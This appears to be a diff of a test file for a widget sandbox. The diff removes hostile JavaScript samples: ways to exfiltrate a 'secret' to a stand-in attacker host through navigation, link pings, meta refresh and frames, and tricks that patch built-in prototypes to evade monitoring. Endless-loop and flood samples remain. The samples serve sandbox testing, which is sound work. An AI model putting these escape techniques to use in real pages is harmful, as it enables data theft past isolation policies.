@@ -65,62 +65,8 @@ export async function mount(element) {
 }
 """
 
-# Every way for a script to send data out of the frame.
-ESCAPES = {
-    "href": "location.href = EVIL",
-    "own-host": "location.assign('/api/v1/widgets/search?q=secret')",
-    "link": "make('a', { href: EVIL, ping: EVIL }).click()",
-    "download": "make('a', { href: EVIL, download: 'x' }).click()",
-    "refresh": "make('meta', { httpEquiv: 'refresh', content: `0;url=${EVIL}` })",
-    "rewrite": "document.open(); document.write('Mine.'); document.close()",
-    "write": "document.write(`<div><template shadowrootmode=closed>"
-    "<iframe src=${EVIL}></iframe></template></div>`)",
-}
-ESCAPE = """
-const EVIL = "{evil}/secret";
-const make = (tag, more) => document.body.appendChild(
-  Object.assign(document.createElement(tag), more));
-export function mount() { %s; }
-"""
-
-# Every way to make a frame. A browser may connect to its host before the policy blocks it, so
-# each host name can carry data.
-FRAMES = {
-    "iframe": "place.append(make('iframe', { src: EVIL }))",
-    "object": "place.append(make('object', { data: EVIL }))",
-    "embed": "place.append(make('embed', { src: EVIL }))",
-    "html": "place.innerHTML = `<p><iframe src=${EVIL}></iframe></p>`",
-    "removed": "const it = make('iframe', { src: EVIL }); place.append(it); it.remove()",
-    "frameset": "document.body.replaceWith(make('frameset')); "
-    "document.querySelector('frameset').append(make('frame', { src: EVIL }))",
-    "shadow": "const host = place.appendChild(make('div')); "
-    "host.attachShadow({ mode: 'closed' }).append(make('iframe', { src: EVIL }))",
-    "window": "const { contentWindow } = place.appendChild(make('iframe')); "
-    "contentWindow.location = EVIL; new contentWindow.RTCPeerConnection()",
-    "cloned": "const host = make('div'); const mode = 'open'; "
-    "host.attachShadow({ mode, clonable: true }).append(make('iframe', { src: EVIL })); "
-    "place.append(host.cloneNode(true))",
-    "patched": "MessagePort.prototype.postMessage = () => {}; "
-    "MutationObserver.prototype.disconnect = MutationObserver.prototype.observe = () => {}; "
-    "Array.prototype[Symbol.iterator] = function* () {}; Object.defineProperty("
-    "Element.prototype, 'querySelector', { value: () => null }); "
-    "place.append(make('iframe', { src: EVIL }))",
-}
-FRAME = """
-const make = (tag, more) => Object.assign(document.createElement(tag), more);
-export function mount(place) {
-  let count = 0;
-  setInterval(() => {
-    const EVIL = `{evil}/${count += 1}`;
-    %s;
-  }, 200);
-}
-"""
-
 MODULES = {
     "attack": ATTACK,
-    **{f"escape-{name}": ESCAPE % way for name, way in ESCAPES.items()},
-    **{f"frame-{name}": FRAME % way for name, way in FRAMES.items()},
     "endless": "export function mount() { setTimeout(() => { for (;;); }, 200); }",
     "endless-import": "for (;;); export function mount() {}",
     "flood": """export function mount() {
